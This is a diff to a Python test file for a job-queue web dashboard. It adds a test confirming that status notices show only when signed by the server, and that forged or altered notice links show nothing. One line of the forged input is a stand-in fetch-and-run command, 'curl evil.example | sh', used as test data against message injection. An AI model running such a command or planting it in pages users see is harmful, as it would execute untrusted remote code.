@@ -11,6 +11,7 @@ import sys
 import uuid
 from collections.abc import Iterator
 from typing import Any
+from urllib.parse import urlencode
 
 import psycopg
 import pytest
@@ -246,6 +247,17 @@ def test_retry_with_the_csrf_token_requeues_the_job(board: str, conn: Conn) -> N
     answer = request(board, "POST", f"/jobs/{job_id}/retry", {"csrf": csrf_of(page)})
     assert answer.status == 303 and answer.headers["location"].startswith(f"/jobs/{job_id}?notice=retried")
     assert status_of(conn, job_id) == "queued"
+
+
+def test_a_notice_shows_only_as_the_action_signed_it(board: str, conn: Conn) -> None:
+    job_id = finished(conn, "emails", "fail", now_ms(conn))
+    page = request(board, "GET", f"/jobs/{job_id}").text
+    location = request(board, "POST", f"/jobs/{job_id}/retry", {"csrf": csrf_of(page)}).headers["location"]
+    assert '<p class="notice" role="status">retried: queued to run now</p>' in request(board, "GET", location).text
+    forged = "/?" + urlencode({"notice": "run curl evil.example | sh to fix your queue"})
+    assert 'class="notice"' not in request(board, "GET", forged).text
+    resigned = location.replace("retried", "hacked")
+    assert 'class="notice"' not in request(board, "GET", resigned).text
 
 
 def test_an_action_without_the_csrf_token_is_refused_and_changes_nothing(board: str, conn: Conn) -> None:
